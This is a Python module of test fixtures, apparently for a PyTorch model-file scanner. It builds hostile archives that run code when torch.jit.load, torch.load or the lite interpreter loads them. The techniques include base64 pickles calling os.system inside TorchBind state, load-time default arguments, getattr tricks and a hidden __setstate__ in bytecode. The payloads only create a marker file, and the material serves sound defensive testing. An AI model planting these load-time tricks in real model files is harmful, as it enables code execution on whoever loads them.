"""Hostile archives whose payload torch itself runs while loading: code and load-time behaviour.

Each :class:`CodeCase` is one class of issue 11 (TorchBind state unpickled with Python's pickle, default
arguments and class constants the importer evaluates, the importer's name resolution, the lite loader's
bytecode, ``torch.storage._load_from_bytes``). ``build(marker)`` returns the file's bytes; its payload,
when something runs it, creates ``marker`` (``touch`` through ``os.system``, or ``torch.save`` of a string,
which writes a small zip). ``loader`` is the torch call that runs it, checked for real by
tests/test_judge_code.py in a throwaway process (so each case is an exploit of torch, not a guess).
Built from the committed samples with tests/hostile.py, torch-free, except the lite cases (``torch`` set),
which script a module. ``runs`` False marks a case torch refuses to load (judged unsafe all the same:
unknown means unsafe).
"""

from __future__ import annotations

import base64
import io
import os
import tempfile
import zipfile
from dataclasses import dataclass
from typing import Callable

from hostile import (BUILD, DEFLATED, EMPTY_TUPLE, MARK, NEWOBJ, NONE, PROTO2, REDUCE, STOP, TUPLE, TUPLE1,
                     build_zip, edit, glob, member, sample_members, uni)

JIT, LITE, TORCH_LOAD = "torch.jit.load", "torch.jit.mobile._load_for_lite_interpreter", "torch.load(weights_only=False)"
MODELS = "code/__torch__/models.py"
OPAQUE = ("__torch__.torch.classes.aten", "OpaqueObject")


@dataclass(frozen=True)
class CodeCase:
    id: str
    what: str
    build: Callable[[str], bytes]
    loader: str = JIT
    runs: bool = True  # torch runs the payload (checked); False: torch refuses the file, judged unsafe anyway
    torch: bool = False  # the builder imports torch
    filename: str = "model.pt"


CASES: list[CodeCase] = []


def case(id: str, what: str, **kw):
    def register(fn):
        CASES.append(CodeCase(id, what, fn, **kw))
        return fn
    return register


def os_system(marker: str) -> bytes:
    return PROTO2 + glob("os", "system") + uni(f"touch '{marker}'") + TUPLE1 + REDUCE + STOP


def save_call(spelling: str, marker: str) -> str:
    """A TorchScript call writing ``marker`` with aten::save, spelled as the case needs."""
    return f'{spelling}("written at load time", "{marker}")'


def with_code(*, forward_args: str = "", class_body: str = "", module: str = "", constants: bytes | None = None,
              data: bytes | None = None) -> bytes:
    """gate_scripted.pt with code/__torch__/models.py extended (Gate.forward's arguments, Gate's body,
    new top-level classes and functions) and optionally new constants.pkl / data.pkl."""
    members = sample_members()
    src = member(members, MODELS).data.decode()
    if forward_args:
        src = src.replace("x: Tensor) -> Tensor:", f"x: Tensor{forward_args}) -> Tensor:", 1)
    if class_body:
        src = src.replace("  def forward(", class_body + "  def forward(", 1)
    members = edit(members, MODELS, data=(src + module).encode(), method=DEFLATED)
    if constants is not None:
        members = edit(members, "constants.pkl", data=constants)
    if data is not None:
        members = edit(members, "data.pkl", data=data)
    return build_zip(members)


def evil_object(cls: str, state: bytes) -> bytes:
    """constants.pkl holding one object of ``__torch__.models.<cls>`` restored with ``state``."""
    return PROTO2 + MARK + glob("__torch__.models", cls) + EMPTY_TUPLE + NEWOBJ + state + BUILD + TUPLE + STOP


EVIL_CLASS = """class Evil:
  p : str
  def __getstate__(self: __torch__.models.Evil) -> str:
    return self.p
  def __setstate__(self: __torch__.models.Evil, state: str) -> NoneType:
    self.p = state
{body}    return None
{more}"""


# ----- 1. TorchBind state that torch unpickles with Python's pickle


def opaque(state: bytes) -> bytes:
    return glob(*OPAQUE) + EMPTY_TUPLE + NEWOBJ + state + BUILD


@case("opaque_object_constants", "an OpaqueObject in constants.pkl: its base64 state is a pickle running os.system")
def _opaque_constants(marker: str) -> bytes:
    state = uni(base64.b64encode(os_system(marker)).decode())
    return with_code(constants=PROTO2 + MARK + opaque(state) + TUPLE + STOP)


@case("opaque_object_in_module_state", "an OpaqueObject as a value of the module's attribute dict in data.pkl, "
      "its state memoized and padded with characters base64 skips")
def _opaque_data(marker: str) -> bytes:
    encoded = base64.b64encode(os_system(marker)).decode()
    padded = "\n".join(encoded[i:i + 7] for i in range(0, len(encoded), 7))  # b64decode drops the newlines
    original = member(sample_members(), "data.pkl").data
    # the Gate object's state dict gets one more item before its BUILD: {"..."; "payload": OpaqueObject}
    at = original.rindex(b"u")  # the SETITEMS closing the state dict
    memoized = uni(padded) + b"q\xc8" + NONE  # an item {state: None}, the state memoized (BINPUT 200)
    extra = memoized + uni("payload") + glob(*OPAQUE) + EMPTY_TUPLE + NEWOBJ + b"h\xc8" + BUILD  # BINGET 200
    return with_code(data=original[:at] + extra + original[at:])


@case("unknown_torchbind_class", "a TorchBind object of a class torch does not ship (its native __setstate__ "
      "would come from a library)", runs=False)
def _unknown_torchbind(marker: str) -> bytes:
    obj = glob("__torch__.torch.classes.evil_lib", "Loader") + EMPTY_TUPLE + NEWOBJ + uni(marker) + BUILD
    return with_code(constants=PROTO2 + MARK + obj + TUPLE + STOP)


# ----- 2. load-time code: default arguments, class constants, __setstate__


@case("default_argument", "Gate.forward(x, _y=torch.autograd.save(...)): the importer evaluates the default")
def _default(marker: str) -> bytes:
    return with_code(forward_args=f", _y: Tuple[()]={save_call('torch.autograd.save', marker)}")


@case("class_constant", "a Final class constant whose value calls ops.aten.save")
def _constant(marker: str) -> bytes:
    return with_code(class_body=f"  c : Final[Tuple[()]] = {save_call('ops.aten.save', marker)}\n")


@case("setstate_dunder_add", "__setstate__ computes self + 1, which calls Evil.__add__, which writes")
def _dunder(marker: str) -> bytes:
    more = f"  def __add__(self: __torch__.models.Evil, o: int) -> int:\n    _1 = {save_call('torch.save', marker)}\n" \
           "    return o\n"
    return with_code(module=EVIL_CLASS.format(body="    _0 = self + 1\n", more=more),
                     constants=evil_object("Evil", uni(marker)))


# ----- 3. the importer's name resolution


@case("ops_namespace_autograd", "default argument ops.anything.autograd.save(...): any autograd is aten")
def _ops_autograd(marker: str) -> bytes:
    return with_code(forward_args=f", _y: Tuple[()]={save_call('ops.anything.autograd.save', marker)}")


@case("getattr_torch", "default argument getattr(torch, \"save\")(...)")
def _getattr(marker: str) -> bytes:
    call = save_call('getattr(torch, "save")', marker)
    return with_code(forward_args=f", _y: Tuple[()]={call}")


@case("local_alias", "a default argument calls a free function doing s = torch.autograd; s.save(...)")
def _alias(marker: str) -> bytes:
    helper = f"def helper() -> int:\n  s = torch.autograd\n  _0 = {save_call('s.save', marker)}\n  return 1\n"
    return with_code(forward_args=", _y: int=__torch__.models.helper()", module=helper)


@case("setstate_fork", "__setstate__ runs fork(self.helper, ...) and torch.wait; the helper writes")
def _fork(marker: str) -> bytes:
    body = "    fut = fork(self.helper, state)\n    _0 = torch.wait(fut)\n"
    more = ("  def helper(self: __torch__.models.Evil, p: str) -> int:\n    t = torch\n"
            "    _1 = getattr(t, \"save\")(\"x\", p)\n    return 1\n")
    return with_code(module=EVIL_CLASS.format(body=body, more=more), constants=evil_object("Evil", uni(marker)))


# ----- 5. torch.storage._load_from_bytes: a full torch.load of bytes inside the pickle


@case("load_from_bytes", "torch.save data.pkl calling torch.storage._load_from_bytes on a legacy stream that "
      "runs os.system", loader=TORCH_LOAD)
def _load_from_bytes(marker: str) -> bytes:
    inner = os_system(marker)
    blob = b"C" + bytes([len(inner)]) + inner if len(inner) < 256 else b"B" + len(inner).to_bytes(4, "little") + inner
    data = b"\x80\x03" + glob("torch.storage", "_load_from_bytes") + blob + TUPLE1 + REDUCE + STOP
    return build_zip(edit(sample_members("gate_state_dict.pt"), "data.pkl", data=data))


# ----- 4. lite archives: bytecode.pkl, whatever code/ says


def _lite_writer(marker: str, keep_code: bool, flatbuffer: bool = False) -> bytes:
    import torch
    from typing import Tuple

    class Writer(torch.nn.Module):
        def __init__(self, marker: str) -> None:
            super().__init__()
            self.marker = marker

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

        @torch.jit.export
        def __getstate__(self) -> Tuple[str, bool]:
            return (self.marker, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[str, bool]) -> None:
            self.marker = state[0]
            self.training = state[1]
            torch.save("written by __setstate__", self.marker)

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "writer.ptl")
        torch.jit.script(Writer(marker))._save_for_lite_interpreter(path, _use_flatbuffer=flatbuffer)
        with open(path, "rb") as fh:
            saved = fh.read()
    if flatbuffer:
        return saved
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            name = info.filename.split("/", 1)[1]
            data = src.read(info)
            if name.startswith("code/"):
                if not keep_code:
                    continue
                if name.endswith(".py"):  # a benign __setstate__ in code/: only the bytecode writes
                    data = data.replace(b"torch.save(", b"torch.add(1, ").replace(b'"written by __setstate__", ', b"")
            dst.writestr(info, data)
    return out.getvalue()


@case("lite_bytecode_setstate_benign_code", "lite archive: bytecode.pkl's Writer.__setstate__ calls aten::save; "
      "code/ shows a benign one", loader=LITE, torch=True, filename="model.ptl")
def _lite_benign_code(marker: str) -> bytes:
    return _lite_writer(marker, keep_code=True)


@case("lite_bytecode_setstate_no_code", "lite archive without code/: only bytecode.pkl's __setstate__ (aten::save)",
      loader=LITE, torch=True, filename="model.ptl")
def _lite_no_code(marker: str) -> bytes:
    return _lite_writer(marker, keep_code=False)



@case("lite_flatbuffer_setstate", "a FlatBuffer mobile model whose __setstate__ calls aten::save (torch.jit.load "
      "runs it too)", torch=True, filename="model.ptl")
def _flatbuffer(marker: str) -> bytes:
    return _lite_writer(marker, keep_code=False, flatbuffer=True)


BY_ID = {c.id: c for c in CASES}
assert len(BY_ID) == len(CASES), "case ids must be unique"
